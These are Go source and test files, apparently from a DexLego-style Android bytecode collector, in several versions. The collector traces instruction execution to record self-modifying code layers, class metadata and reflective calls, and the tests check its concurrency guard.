// span. A nil span (the default) keeps the hot path at a pointer check.
func (c *Collector) SetSpan(s *obs.Span) { c.span = s }

// enter flags the collector as servicing a hook; leave clears the flag.
// Observing the flag already set means two runtimes share this collector;
// the violation is recorded in the trace before the guard panics, so trace
// files keep the context the panic destroys.
func (c *Collector) enter() {
	if !c.busy.CompareAndSwap(0, 1) {
		c.span.ConcurrentEntry("collector hook entered while another hook was in flight")
		panic("collector: concurrent use across runtimes; each Collector owns exactly one runtime")
	}
}

func (c *Collector) leave() { c.busy.Store(0) }

// New returns an empty collector.
func New() *Collector {
	c := &Collector{
		res: &Result{Methods: make(map[string]*MethodRecord)},
	}
	c.hooks = &art.Hooks{
		MethodEntered:       c.methodEntered,
		MethodExited:        c.methodExited,
		Instruction:         c.instruction,
		ClassInitialized:    c.classInitialized,
		ReflectiveCall:      c.reflectiveCall,
		PredecodeHit:        c.predecodeHit,
		PredecodeInvalidate: c.predecodeInvalidate,
		CodeWritten:         c.codeWritten,
	}
	return c
}

// SetSkip installs the set of method keys to serve from the incremental
// method cache. Skipped methods record touch-only: no frame, no trees.
// Must be set before the collector's runtime executes.
func (c *Collector) SetSkip(skip map[string]bool) {
	c.skip = skip
	c.touched = make(map[string]bool)
	c.violated = make(map[string]bool)
}

// SkipTouched returns the skip-listed method keys that were actually
// entered during execution — the methods whose cached trees must be
// spliced into the result. Never-entered skipped methods stay absent and
// reassemble as stubs, exactly as on the full path.
func (c *Collector) SkipTouched() map[string]bool { return c.touched }

// SkipViolations returns, sorted, the skip-listed methods whose live code
// was written at runtime. A non-empty slice means the cached trees cannot
// be trusted for this run and the caller must fall back to a full reveal.
func (c *Collector) SkipViolations() []string {
	keys := make([]string, 0, len(c.violated))
	for k := range c.violated {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return keys
}

// AbsorbSkipState unions another collector's touched and violated sets into
// c. The force-execution engine calls it when merging worker-shard results,
// so touches observed only under forced branches still splice.
func (c *Collector) AbsorbSkipState(other *Collector) {
	if other == nil {
		return
	}
	for k := range other.touched {
		if c.touched == nil {
			c.touched = make(map[string]bool)
		}
		c.touched[k] = true
	}
	for k := range other.violated {
		if c.violated == nil {
			c.violated = make(map[string]bool)
		}
		c.violated[k] = true
	}
}

// Hooks returns the instrumentation to attach via Runtime.AddHooks.
func (c *Collector) Hooks() *art.Hooks { return c.hooks }

// Result returns the collection result accumulated so far.
func (c *Collector) Result() *Result { return c.res }

func appMethod(m *art.Method) bool { return m.Class != nil && m.Class.File != nil }

func (c *Collector) methodEntered(m *art.Method) {
	c.enter()
	defer c.leave()
	if !appMethod(m) {
		return
	}
	if c.skip != nil && c.skip[m.Key()] {
		// Served from the method cache: record the touch and push no frame.
		// The top-of-stack method guards in instruction and methodExited
		// keep nested non-skipped callees collecting correctly.
		c.touched[m.Key()] = true
		return
	}
	root := c.newNode(nil, -1)
	var ex *methodExec
	if n := len(c.freeExecs); n > 0 {
		ex = c.freeExecs[n-1]
		c.freeExecs = c.freeExecs[:n-1]
		*ex = methodExec{method: m, root: root, cur: root}
	} else {
		ex = &methodExec{method: m, root: root, cur: root}
	}
	c.stack = append(c.stack, ex)
	// Record shape on first sight; a method may be entered before its class
	// record exists (e.g. <clinit>).
	rec := c.res.method(m)
	rec.RegistersSize = m.RegistersSize
	rec.InsSize = m.InsSize
	if rec.Tries == nil && len(m.Tries) > 0 && m.Class.File != nil {
		for _, t := range m.Tries {
			tr := TryRecord{
				StartPC:    int(t.Start),
				Count:      int(t.Count),
				CatchAllPC: int(t.CatchAll),
			}
			for _, h := range t.Handlers {
				tr.Handlers = append(tr.Handlers, TryCatch{
					Type:      m.Class.File.TypeName(h.Type),
					HandlerPC: int(h.Addr),
				})
			}
			rec.Tries = append(rec.Tries, tr)
		}
	}
}

func (c *Collector) methodExited(m *art.Method) {
	c.enter()
	defer c.leave()
	if !appMethod(m) || len(c.stack) == 0 {
		return
	}
	top := c.stack[len(c.stack)-1]
	if top.method != m {
		return // unbalanced (native transitions); keep the stack sane
	}
	c.stack = c.stack[:len(c.stack)-1]
	root := top.root
	*top = methodExec{}
	c.freeExecs = append(c.freeExecs, top)
	if len(root.IL) == 0 {
		c.recycleTree(root)
		return
	}
	rec := c.res.method(m)
	// Build the fingerprint in the reused scratch buffer and look it up
	// without materializing a string: duplicate executions (the steady
	// state of loops and repeated calls) then dedupe allocation-free.
	c.fpBuf = root.fingerprint(c.fpBuf[:0])
	if rec.seen[string(c.fpBuf)] {
		c.recycleTree(root)
		return // keep only unique trees
	}
	rec.seen[string(c.fpBuf)] = true
	buildIIM(root)
	rec.Trees = append(rec.Trees, root)
	if c.span.Enabled() {
		c.span.MethodCollected(rec.Key(), root.Depth(), root.Size())
	}
}

// layerDepth returns the self-modification layer of n (0 for the root).
func layerDepth(n *TreeNode) int {
	d := 0
	for k := n; k.Parent != nil; k = k.Parent {
		d++
	}
	return d
}

// instruction implements Algorithm 1 (BytecodeCollection).
func (c *Collector) instruction(m *art.Method, pc int, insns []uint16, inp *bytecode.Inst) {
	c.enter()
	defer c.leave()
	if !appMethod(m) || len(c.stack) == 0 {
		return
	}
	top := c.stack[len(c.stack)-1]
	if top.method != m {
		return
	}
	if inp == nil {
		return // malformed live code; the interpreter will surface it
	}
	in := *inp
	// Symbol resolution is deferred past the dedup check below: the steady
	// state (loop bodies, repeated calls) re-executes recorded instructions,
	// which must not allocate.
	cur := top.cur
	if ilIdx, ok := cur.ilIndex(pc); ok {
		old := cur.IL[ilIdx]
		if old.Inst.Equal(in) {
			return // same instruction at same dex_pc: deduplicate
		}
		// Divergence: a runtime modification happened here.
		child := c.newNode(cur, pc)
		cur.Children = append(cur.Children, child)
		top.cur = child
		child.push(Entry{DexPC: pc, Inst: in, Sym: resolveSym(m, in)})
		if c.span.Enabled() {
			c.span.TreeFork(m.Key(), pc, layerDepth(child))
		}
		return
	}
	if cur.Parent != nil {
		if pIdx, ok := cur.Parent.ilIndex(pc); ok && cur.Parent.IL[pIdx].Inst.Equal(in) {
			// Convergence: this self-modification layer ended.
			cur.SmEnd = pc
			top.cur = cur.Parent
			if c.span.Enabled() {
				c.span.TreeConverge(m.Key(), pc, layerDepth(cur))
			}
			return
		}
	}
	cur.push(Entry{DexPC: pc, Inst: in, Sym: resolveSym(m, in)})
}

// predecodeHit traces a method binding to a cached predecoded program.
// Interpreter acceleration events ride the same reveal span as the
// collection-tree events so per-app traces show cache behaviour alongside
// the self-modification activity that invalidates it.
func (c *Collector) predecodeHit(m *art.Method) {
	c.enter()
	defer c.leave()
	if !appMethod(m) || !c.span.Enabled() {
		return
	}
	c.span.PredecodeHit(m.Key())
}

// predecodeInvalidate traces a live-code write dropping a method's
// predecoded stream — the same modification events that fork collection
// trees, observed at the interpreter layer.
func (c *Collector) predecodeInvalidate(m *art.Method, pc int) {
	c.enter()
	defer c.leave()
	if !appMethod(m) || !c.span.Enabled() {
		return
	}
	c.span.PredecodeInvalidate(m.Key(), pc)
}

// codeWritten marks a method whose live unit array was written: its record
// becomes permanently uncacheable, and if the method was on the skip list
// the cached tree served for it is no longer trustworthy (violation).
func (c *Collector) codeWritten(m *art.Method, pc int) {
	c.enter()
	defer c.leave()
	if !appMethod(m) {
		return
	}
	key := m.Key()
	if c.skip != nil && c.skip[key] {
		c.violated[key] = true
	}
	c.res.method(m).Written = true
}

func resolveSym(m *art.Method, in bytecode.Inst) *Symbol {
	kind := in.Op.Index()
	if kind == bytecode.IndexNone || m.Class.File == nil {
		return nil
	}
	f := m.Class.File
	s := &Symbol{Kind: kind}
	switch kind {
	case bytecode.IndexString:
		s.Str = f.String(in.Index)
	case bytecode.IndexType:
		s.Type = f.TypeName(in.Index)
	case bytecode.IndexField:
		s.Field = f.FieldAt(in.Index)
	case bytecode.IndexMethod:
		s.Method = f.MethodAt(in.Index)
	}
	return s
}

func (c *Collector) classInitialized(cl *art.Class) {
	c.enter()
	defer c.leave()
	c.recordClass(cl)
}

// recordClass records class metadata at initialization time. Superclasses
// initialize first (and are recorded by their own events), but interfaces do
// not, so their metadata is pulled in recursively — the reassembled DEX must
// be able to re-link every recorded class.
func (c *Collector) recordClass(cl *art.Class) {
	if cl == nil || cl.File == nil || c.res.Class(cl.Descriptor) != nil {
		return
	}
	rec := ClassRecord{
		Descriptor:  cl.Descriptor,
		AccessFlags: cl.AccessFlags,
	}
	if cl.Super != nil {
		rec.Superclass = cl.Super.Descriptor
	}
	for _, i := range cl.Interfaces {
		rec.Interfaces = append(rec.Interfaces, i.Descriptor)
	}
	if cl.Def != nil && cl.Def.SourceFile != dex.NoIndex {
		rec.SourceFile = cl.File.String(cl.Def.SourceFile)
	}
	for _, f := range cl.StaticMeta {
		fr := FieldRecord{Name: f.Name, Type: f.Type, AccessFlags: f.AccessFlags}
		if v, ok := cl.Statics[f.Name]; ok && cl.Initialized() {
			fr.Value = valueRecord(v)
		} else if f.Init != nil {
			fr.Value = encodedValueRecord(cl, *f.Init)
		}
		rec.StaticFields = append(rec.StaticFields, fr)
	}
	for _, f := range cl.InstanceMeta {
		rec.InstanceFields = append(rec.InstanceFields,
			FieldRecord{Name: f.Name, Type: f.Type, AccessFlags: f.AccessFlags})
	}
	for _, m := range cl.Methods {
		rec.Methods = append(rec.Methods, MethodShell{
			Name:        m.Name,
			Signature:   m.Signature,
			AccessFlags: m.AccessFlags,
			Virtual:     m.Virtual,
			Native:      m.AccessFlags&dex.AccNative != 0,
		})
	}
	c.res.Classes = append(c.res.Classes, rec)
	for _, i := range cl.Interfaces {
		c.recordClass(i)
	}
	c.recordClass(cl.Super)
}

func encodedValueRecord(cl *art.Class, v dex.Value) *ValueRecord {
	switch v.Kind {
	case dex.ValueString:
		return &ValueRecord{Kind: "string", Str: cl.File.String(v.Index)}
	case dex.ValueNull:
		return &ValueRecord{Kind: "null"}
	default:
		return &ValueRecord{Kind: "int", Int: v.Int}
	}
}

func valueRecord(v art.Value) *ValueRecord {
	switch {
	case v.Kind == art.KindRef && v.Ref != nil && v.Ref.IsString():
		return &ValueRecord{Kind: "string", Str: v.Ref.Str}
	case v.Kind == art.KindRef:
		return &ValueRecord{Kind: "null"}
	default:
		return &ValueRecord{Kind: "int", Int: v.Int}
	}
}

// ReflTarget describes one observed reflective-invocation target.
type ReflTarget struct {
	Class     string `json:"class"`
	Name      string `json:"name"`
	Signature string `json:"signature"`
	Static    bool   `json:"static"`
}

// Key returns the canonical method key of the target.
func (t ReflTarget) Key() string { return t.Class + "->" + t.Name + t.Signature }

func (c *Collector) reflectiveCall(caller *art.Method, pc int, target *art.Method) {
	c.enter()
	defer c.leave()
	if caller == nil || !appMethod(caller) {
		return
	}
	rec := c.res.method(caller)
	if rec.ReflTargets == nil {
		rec.ReflTargets = make(map[int][]ReflTarget)
	}
	ref := ReflTarget{
		Class:     target.Class.Descriptor,
		Name:      target.Name,
		Signature: target.Signature,
		Static:    target.IsStatic(),
	}
	for _, existing := range rec.ReflTargets[pc] {
		if existing == ref {
			return
		}
	}
	rec.ReflTargets[pc] = append(rec.ReflTargets[pc], ref)
}
