// Package collector implements DexLego's just-in-time collection: the
// instruction-level tracing of Algorithm 1 with the paper's collection-tree
// model (Fig. 3), plus DEX metadata collection at class initialization.
//
// A Collector attaches to the runtime through art.Hooks. Per execution of a
// method it maintains a tree of TreeNodes; re-executing the same instruction
// at the same dex_pc is deduplicated through the node's Instruction Index
// Map, a *different* instruction at a recorded dex_pc forks a child node (a
// layer of self-modifying code), and re-encountering a parent instruction
// converges back. Constant-pool operands are resolved to symbolic form at
// collection time so the offline reassembler is independent of the original
// DEX's index space.
package collector

import (
	"fmt"
	"sort"
	"strings"
	"sync/atomic"

	"dexlego/internal/art"
	"dexlego/internal/bytecode"
	"dexlego/internal/dex"
	"dexlego/internal/obs"
)

// Symbol is a constant-pool operand resolved at collection time.
type Symbol struct {
	Kind   bytecode.IndexKind `json:"kind"`
	Str    string             `json:"str,omitempty"`
	Type   string             `json:"type,omitempty"`
	Field  dex.FieldRef       `json:"field,omitempty"`
	Method dex.MethodRef      `json:"method,omitempty"`
}

// Entry is one collected instruction: its dex_pc, the decoded instruction,
// and its resolved constant-pool operand (if any).
type Entry struct {
	DexPC int           `json:"pc"`
	Inst  bytecode.Inst `json:"inst"`
	Sym   *Symbol       `json:"sym,omitempty"`
}

// TreeNode is a node of the collection tree (Fig. 3): the Instruction List
// (IL) in first-execution order, the Instruction Index Map (IIM) from
// dex_pc to IL index, the divergence bounds, and child links.
type TreeNode struct {
	IL       []Entry     `json:"il"`
	IIM      map[int]int `json:"iim"`
	SmStart  int         `json:"smStart"` // divergence dex_pc; -1 for the root
	SmEnd    int         `json:"smEnd"`   // convergence dex_pc; -1 if none
	Children []*TreeNode `json:"children,omitempty"`
	Parent   *TreeNode   `json:"-"`
}

func newNode(parent *TreeNode, smStart int) *TreeNode {
	return &TreeNode{
		IIM:     make(map[int]int),
		SmStart: smStart,
		SmEnd:   -1,
		Parent:  parent,
	}
}

// push records an instruction in the node (Algorithm 1 lines 29-31).
func (n *TreeNode) push(e Entry) {
	n.IIM[e.DexPC] = len(n.IL)
	n.IL = append(n.IL, e)
}

// Size returns the total number of instructions in the subtree.
func (n *TreeNode) Size() int {
	total := len(n.IL)
	for _, c := range n.Children {
		total += c.Size()
	}
	return total
}

// Depth returns the number of self-modification layers below this node.
func (n *TreeNode) Depth() int {
	max := 0
	for _, c := range n.Children {
		if d := c.Depth(); d > max {
			max = d
		}
	}
	return max + 1
}

// fingerprint canonically identifies a tree's contents for deduplication.
func (n *TreeNode) fingerprint(sb *strings.Builder) {
	fmt.Fprintf(sb, "N(%d,%d)[", n.SmStart, n.SmEnd)
	for _, e := range n.IL {
		fmt.Fprintf(sb, "%d:%02x:%d:%d:%d:%d:%d:%v:%v;",
			e.DexPC, uint8(e.Inst.Op), e.Inst.A, e.Inst.B, e.Inst.C,
			e.Inst.Lit, e.Inst.Off, e.Inst.Args, symKey(e.Sym))
	}
	sb.WriteByte(']')
	kids := append([]*TreeNode(nil), n.Children...)
	sort.Slice(kids, func(i, j int) bool { return kids[i].SmStart < kids[j].SmStart })
	for _, c := range kids {
		c.fingerprint(sb)
	}
}

func symKey(s *Symbol) string {
	if s == nil {
		return ""
	}
	switch s.Kind {
	case bytecode.IndexString:
		return "s:" + s.Str
	case bytecode.IndexType:
		return "t:" + s.Type
	case bytecode.IndexField:
		return "f:" + s.Field.Key()
	case bytecode.IndexMethod:
		return "m:" + s.Method.Key()
	default:
		return ""
	}
}

// Fingerprint returns the canonical identity of the tree.
func (n *TreeNode) Fingerprint() string {
	var sb strings.Builder
	n.fingerprint(&sb)
	return sb.String()
}

// MethodRecord aggregates everything collected about one method.
type MethodRecord struct {
	Class         string `json:"class"`
	Name          string `json:"name"`
	Signature     string `json:"signature"`
	AccessFlags   uint32 `json:"accessFlags"`
	Virtual       bool   `json:"virtual"`
	RegistersSize int    `json:"registersSize"`
	InsSize       int    `json:"insSize"`

	// Trees holds the unique collection trees, one per distinct execution.
	Trees []*TreeNode `json:"trees,omitempty"`
	// Tries is the method's try/catch table with original dex_pc anchors and
	// exception types resolved to descriptors.
	Tries []TryRecord `json:"tries,omitempty"`
	// ReflTargets maps a call-site dex_pc of Method.invoke to the resolved
	// direct-call targets observed there.
	ReflTargets map[int][]ReflTarget `json:"reflTargets,omitempty"`

	seen map[string]bool
}

// Key returns the canonical method key.
func (r *MethodRecord) Key() string { return r.Class + "->" + r.Name + r.Signature }

// Executed reports whether any bytecode was collected for the method.
func (r *MethodRecord) Executed() bool { return len(r.Trees) > 0 }

// TryRecord is a try/catch range anchored at original dex_pcs.
type TryRecord struct {
	StartPC    int        `json:"startPC"`
	Count      int        `json:"count"`
	Handlers   []TryCatch `json:"handlers,omitempty"`
	CatchAllPC int        `json:"catchAllPC"` // -1 when absent
}

// TryCatch is one typed handler of a TryRecord.
type TryCatch struct {
	Type      string `json:"type"`
	HandlerPC int    `json:"handlerPC"`
}

// ValueRecord serializes a static field value.
type ValueRecord struct {
	Kind string `json:"kind"` // "int", "string", "null", "bool"
	Int  int64  `json:"int,omitempty"`
	Str  string `json:"str,omitempty"`
}

// FieldRecord is collected field metadata.
type FieldRecord struct {
	Name        string       `json:"name"`
	Type        string       `json:"type"`
	AccessFlags uint32       `json:"accessFlags"`
	Value       *ValueRecord `json:"value,omitempty"`
}

// MethodShell is a declared method observed at class initialization.
type MethodShell struct {
	Name        string `json:"name"`
	Signature   string `json:"signature"`
	AccessFlags uint32 `json:"accessFlags"`
	Virtual     bool   `json:"virtual"`
	Native      bool   `json:"native"`
}

// ClassRecord is collected class metadata.
type ClassRecord struct {
	Descriptor     string        `json:"descriptor"`
	Superclass     string        `json:"superclass"`
	Interfaces     []string      `json:"interfaces,omitempty"`
	SourceFile     string        `json:"sourceFile,omitempty"`
	AccessFlags    uint32        `json:"accessFlags"`
	StaticFields   []FieldRecord `json:"staticFields,omitempty"`
	InstanceFields []FieldRecord `json:"instanceFields,omitempty"`
	Methods        []MethodShell `json:"methods,omitempty"`
}

// Result is the complete collection output, the in-memory form of the
// paper's five collection files.
type Result struct {
	Classes []ClassRecord            `json:"classes"`
	Methods map[string]*MethodRecord `json:"methods"`
}

// Method returns the record for a method key, creating it if needed.
func (r *Result) method(m *art.Method) *MethodRecord {
	key := m.Key()
	if rec, ok := r.Methods[key]; ok {
		return rec
	}
	rec := &MethodRecord{
		Class:         m.Class.Descriptor,
		Name:          m.Name,
		Signature:     m.Signature,
		AccessFlags:   m.AccessFlags,
		Virtual:       m.Virtual,
		RegistersSize: m.RegistersSize,
		InsSize:       m.InsSize,
		seen:          make(map[string]bool),
	}
	r.Methods[key] = rec
	return rec
}

// Class returns the recorded class metadata, or nil.
func (r *Result) Class(descriptor string) *ClassRecord {
	for i := range r.Classes {
		if r.Classes[i].Descriptor == descriptor {
			return &r.Classes[i]
		}
	}
	return nil
}

// ExecutedInstructionCount sums unique collected instructions over all
// methods (the paper's dump-size proxy).
func (r *Result) ExecutedInstructionCount() int {
	total := 0
	for _, rec := range r.Methods {
		for _, tr := range rec.Trees {
			total += tr.Size()
		}
	}
	return total
}

// methodExec is one in-flight execution of one method.
type methodExec struct {
	method *art.Method
	root   *TreeNode
	cur    *TreeNode
}

// Collector performs JIT collection over an instrumented runtime.
//
// Ownership contract: a Collector belongs to exactly one runtime at a
// time. Its hooks mutate the collection tree and the execution stack
// without locks, so attaching the same Collector to two concurrently
// executing runtimes is a data race. Hooks are synchronous and never
// nested, which lets a cheap atomic guard enforce the contract: a hook
// entered while another is in flight panics instead of silently
// corrupting the collection result. Batch pipelines (RevealBatch)
// therefore construct one Collector per job.
type Collector struct {
	res   *Result
	stack []*methodExec
	hooks *art.Hooks
	busy  atomic.Int32
	span  *obs.Span
}

// SetSpan attributes the collector's trace events (tree forks, convergences,
// recorded methods, guard violations) to s — typically the per-app reveal
// span. A nil span (the default) keeps the hot path at a pointer check.
func (c *Collector) SetSpan(s *obs.Span) { c.span = s }

// enter flags the collector as servicing a hook; leave clears the flag.
// Observing the flag already set means two runtimes share this collector;
// the violation is recorded in the trace before the guard panics, so trace
// files keep the context the panic destroys.
func (c *Collector) enter() {
	if !c.busy.CompareAndSwap(0, 1) {
		c.span.ConcurrentEntry("collector hook entered while another hook was in flight")
		panic("collector: concurrent use across runtimes; each Collector owns exactly one runtime")
	}
}

func (c *Collector) leave() { c.busy.Store(0) }

// New returns an empty collector.
func New() *Collector {
	c := &Collector{
		res: &Result{Methods: make(map[string]*MethodRecord)},
	}
	c.hooks = &art.Hooks{
		MethodEntered:    c.methodEntered,
		MethodExited:     c.methodExited,
		Instruction:      c.instruction,
		ClassInitialized: c.classInitialized,
		ReflectiveCall:   c.reflectiveCall,
	}
	return c
}

// Hooks returns the instrumentation to attach via Runtime.AddHooks.
func (c *Collector) Hooks() *art.Hooks { return c.hooks }

// Result returns the collection result accumulated so far.
func (c *Collector) Result() *Result { return c.res }

func appMethod(m *art.Method) bool { return m.Class != nil && m.Class.File != nil }

func (c *Collector) methodEntered(m *art.Method) {
	c.enter()
	defer c.leave()
	if !appMethod(m) {
		return
	}
	root := newNode(nil, -1)
	c.stack = append(c.stack, &methodExec{method: m, root: root, cur: root})
	// Record shape on first sight; a method may be entered before its class
	// record exists (e.g. <clinit>).
	rec := c.res.method(m)
	rec.RegistersSize = m.RegistersSize
	rec.InsSize = m.InsSize
	if rec.Tries == nil && len(m.Tries) > 0 && m.Class.File != nil {
		for _, t := range m.Tries {
			tr := TryRecord{
				StartPC:    int(t.Start),
				Count:      int(t.Count),
				CatchAllPC: int(t.CatchAll),
			}
			for _, h := range t.Handlers {
				tr.Handlers = append(tr.Handlers, TryCatch{
					Type:      m.Class.File.TypeName(h.Type),
					HandlerPC: int(h.Addr),
				})
			}
			rec.Tries = append(rec.Tries, tr)
		}
	}
}

func (c *Collector) methodExited(m *art.Method) {
	c.enter()
	defer c.leave()
	if !appMethod(m) || len(c.stack) == 0 {
		return
	}
	top := c.stack[len(c.stack)-1]
	if top.method != m {
		return // unbalanced (native transitions); keep the stack sane
	}
	c.stack = c.stack[:len(c.stack)-1]
	if len(top.root.IL) == 0 {
		return
	}
	rec := c.res.method(m)
	fp := top.root.Fingerprint()
	if rec.seen[fp] {
		return // keep only unique trees
	}
	rec.seen[fp] = true
	rec.Trees = append(rec.Trees, top.root)
	if c.span.Enabled() {
		c.span.MethodCollected(rec.Key(), top.root.Depth(), top.root.Size())
	}
}

// layerDepth returns the self-modification layer of n (0 for the root).
func layerDepth(n *TreeNode) int {
	d := 0
	for k := n; k.Parent != nil; k = k.Parent {
		d++
	}
	return d
}

// instruction implements Algorithm 1 (BytecodeCollection).
func (c *Collector) instruction(m *art.Method, pc int, insns []uint16) {
	c.enter()
	defer c.leave()
	if !appMethod(m) || len(c.stack) == 0 {
		return
	}
	top := c.stack[len(c.stack)-1]
	if top.method != m {
		return
	}
	in, _, err := bytecode.Decode(insns, pc)
	if err != nil {
		return // malformed live code; the interpreter will surface it
	}
	entry := Entry{DexPC: pc, Inst: in, Sym: resolveSym(m, in)}

	cur := top.cur
	if ilIdx, ok := cur.IIM[pc]; ok {
		old := cur.IL[ilIdx]
		if old.Inst.Equal(in) {
			return // same instruction at same dex_pc: deduplicate
		}
		// Divergence: a runtime modification happened here.
		child := newNode(cur, pc)
		cur.Children = append(cur.Children, child)
		top.cur = child
		child.push(entry)
		if c.span.Enabled() {
			c.span.TreeFork(m.Key(), pc, layerDepth(child))
		}
		return
	}
	if cur.Parent != nil {
		if pIdx, ok := cur.Parent.IIM[pc]; ok && cur.Parent.IL[pIdx].Inst.Equal(in) {
			// Convergence: this self-modification layer ended.
			cur.SmEnd = pc
			top.cur = cur.Parent
			if c.span.Enabled() {
				c.span.TreeConverge(m.Key(), pc, layerDepth(cur))
			}
			return
		}
	}
	cur.push(entry)
}

func resolveSym(m *art.Method, in bytecode.Inst) *Symbol {
	kind := in.Op.Index()
	if kind == bytecode.IndexNone || m.Class.File == nil {
		return nil
	}
	f := m.Class.File
	s := &Symbol{Kind: kind}
	switch kind {
	case bytecode.IndexString:
		s.Str = f.String(in.Index)
	case bytecode.IndexType:
		s.Type = f.TypeName(in.Index)
	case bytecode.IndexField:
		s.Field = f.FieldAt(in.Index)
	case bytecode.IndexMethod:
		s.Method = f.MethodAt(in.Index)
	}
	return s
}

func (c *Collector) classInitialized(cl *art.Class) {
	c.enter()
	defer c.leave()
	c.recordClass(cl)
}

// recordClass records class metadata at initialization time. Superclasses
// initialize first (and are recorded by their own events), but interfaces do
// not, so their metadata is pulled in recursively — the reassembled DEX must
// be able to re-link every recorded class.
func (c *Collector) recordClass(cl *art.Class) {
	if cl == nil || cl.File == nil || c.res.Class(cl.Descriptor) != nil {
		return
	}
	rec := ClassRecord{
		Descriptor:  cl.Descriptor,
		AccessFlags: cl.AccessFlags,
	}
	if cl.Super != nil {
		rec.Superclass = cl.Super.Descriptor
	}
	for _, i := range cl.Interfaces {
		rec.Interfaces = append(rec.Interfaces, i.Descriptor)
	}
	if cl.Def != nil && cl.Def.SourceFile != dex.NoIndex {
		rec.SourceFile = cl.File.String(cl.Def.SourceFile)
	}
	for _, f := range cl.StaticMeta {
		fr := FieldRecord{Name: f.Name, Type: f.Type, AccessFlags: f.AccessFlags}
		if v, ok := cl.Statics[f.Name]; ok && cl.Initialized() {
			fr.Value = valueRecord(v)
		} else if f.Init != nil {
			fr.Value = encodedValueRecord(cl, *f.Init)
		}
		rec.StaticFields = append(rec.StaticFields, fr)
	}
	for _, f := range cl.InstanceMeta {
		rec.InstanceFields = append(rec.InstanceFields,
			FieldRecord{Name: f.Name, Type: f.Type, AccessFlags: f.AccessFlags})
	}
	for _, m := range cl.Methods {
		rec.Methods = append(rec.Methods, MethodShell{
			Name:        m.Name,
			Signature:   m.Signature,
			AccessFlags: m.AccessFlags,
			Virtual:     m.Virtual,
			Native:      m.AccessFlags&dex.AccNative != 0,
		})
	}
	c.res.Classes = append(c.res.Classes, rec)
	for _, i := range cl.Interfaces {
		c.recordClass(i)
	}
	c.recordClass(cl.Super)
}

func encodedValueRecord(cl *art.Class, v dex.Value) *ValueRecord {
	switch v.Kind {
	case dex.ValueString:
		return &ValueRecord{Kind: "string", Str: cl.File.String(v.Index)}
	case dex.ValueNull:
		return &ValueRecord{Kind: "null"}
	default:
		return &ValueRecord{Kind: "int", Int: v.Int}
	}
}

func valueRecord(v art.Value) *ValueRecord {
	switch {
	case v.Kind == art.KindRef && v.Ref != nil && v.Ref.IsString():
		return &ValueRecord{Kind: "string", Str: v.Ref.Str}
	case v.Kind == art.KindRef:
		return &ValueRecord{Kind: "null"}
	default:
		return &ValueRecord{Kind: "int", Int: v.Int}
	}
}

// ReflTarget describes one observed reflective-invocation target.
type ReflTarget struct {
	Class     string `json:"class"`
	Name      string `json:"name"`
	Signature string `json:"signature"`
	Static    bool   `json:"static"`
}

// Key returns the canonical method key of the target.
func (t ReflTarget) Key() string { return t.Class + "->" + t.Name + t.Signature }

func (c *Collector) reflectiveCall(caller *art.Method, pc int, target *art.Method) {
	c.enter()
	defer c.leave()
	if caller == nil || !appMethod(caller) {
		return
	}
	rec := c.res.method(caller)
	if rec.ReflTargets == nil {
		rec.ReflTargets = make(map[int][]ReflTarget)
	}
	ref := ReflTarget{
		Class:     target.Class.Descriptor,
		Name:      target.Name,
		Signature: target.Signature,
		Static:    target.IsStatic(),
	}
	for _, existing := range rec.ReflTargets[pc] {
		if existing == ref {
			return
		}
	}
	rec.ReflTargets[pc] = append(rec.ReflTargets[pc], ref)
}
