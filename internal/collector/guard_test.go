package collector

import (
	"strings"
	"testing"

	"dexlego/internal/art"
)

// TestGuardPanicsOnConcurrentHookEntry simulates the bug the ownership
// guard exists to catch: a second runtime invoking a hook while another
// hook is still in flight. The guard must panic loudly rather than let the
// two interleave on the unsynchronized collection tree.
func TestGuardPanicsOnConcurrentHookEntry(t *testing.T) {
	c := New()
	c.enter() // first runtime mid-hook
	defer func() {
		r := recover()
		if r == nil {
			t.Fatal("expected panic on concurrent hook entry, got none")
		}
		msg, ok := r.(string)
		if !ok || !strings.Contains(msg, "concurrent use") {
			t.Fatalf("unexpected panic value: %v", r)
		}
	}()
	c.Hooks().ClassInitialized(nil)
}

// TestGuardResetsAfterHookReturns checks the guard releases on every hook
// path, including early returns: sequential hook invocations on one
// runtime — the supported pattern — must keep working.
func TestGuardResetsAfterHookReturns(t *testing.T) {
	c := New()
	h := c.Hooks()
	sys := &art.Method{} // no class: filtered out as a non-app method
	for i := 0; i < 3; i++ {
		h.ClassInitialized(nil) // early-returns on nil class
		h.MethodEntered(sys)
		h.MethodExited(sys)
		h.Instruction(sys, 0, nil)
		h.ReflectiveCall(nil, 0, nil)
	}
	if c.busy.Load() != 0 {
		t.Fatal("guard left set after hooks returned")
	}
}
