package collector

import (
	"bytes"
	"strings"
	"testing"

	"dexlego/internal/art"
	"dexlego/internal/obs"
)

// TestGuardPanicsOnConcurrentHookEntry simulates the bug the ownership
// guard exists to catch: a second runtime invoking a hook while another
// hook is still in flight. The guard must panic loudly rather than let the
// two interleave on the unsynchronized collection tree.
func TestGuardPanicsOnConcurrentHookEntry(t *testing.T) {
	c := New()
	c.enter() // first runtime mid-hook
	defer func() {
		r := recover()
		if r == nil {
			t.Fatal("expected panic on concurrent hook entry, got none")
		}
		msg, ok := r.(string)
		if !ok || !strings.Contains(msg, "concurrent use") {
			t.Fatalf("unexpected panic value: %v", r)
		}
	}()
	c.Hooks().ClassInitialized(nil)
}

// TestGuardEmitsConcurrentEntryEvent checks the violation reaches the trace
// before the panic: the panic kills the goroutine, but the trace file keeps
// the forensic record of which run tripped the guard.
func TestGuardEmitsConcurrentEntryEvent(t *testing.T) {
	var buf bytes.Buffer
	tr := obs.New(obs.NewJSONLSink(&buf))
	span := tr.Start("reveal", "guard-test")
	c := New()
	c.SetSpan(span)
	c.enter() // first runtime mid-hook
	func() {
		defer func() {
			if recover() == nil {
				t.Fatal("expected panic on concurrent hook entry, got none")
			}
		}()
		c.Hooks().ClassInitialized(nil)
	}()
	if !strings.Contains(buf.String(), `"ev":"concurrent_entry"`) {
		t.Fatalf("trace missing concurrent_entry event:\n%s", buf.String())
	}
	if got := tr.Snapshot().EventCount(obs.EventConcurrentEntry); got != 1 {
		t.Fatalf("concurrent_entry count = %d, want 1", got)
	}
}

// TestGuardResetsAfterHookReturns checks the guard releases on every hook
// path, including early returns: sequential hook invocations on one
// runtime — the supported pattern — must keep working.
func TestGuardResetsAfterHookReturns(t *testing.T) {
	c := New()
	h := c.Hooks()
	sys := &art.Method{} // no class: filtered out as a non-app method
	for i := 0; i < 3; i++ {
		h.ClassInitialized(nil) // early-returns on nil class
		h.MethodEntered(sys)
		h.MethodExited(sys)
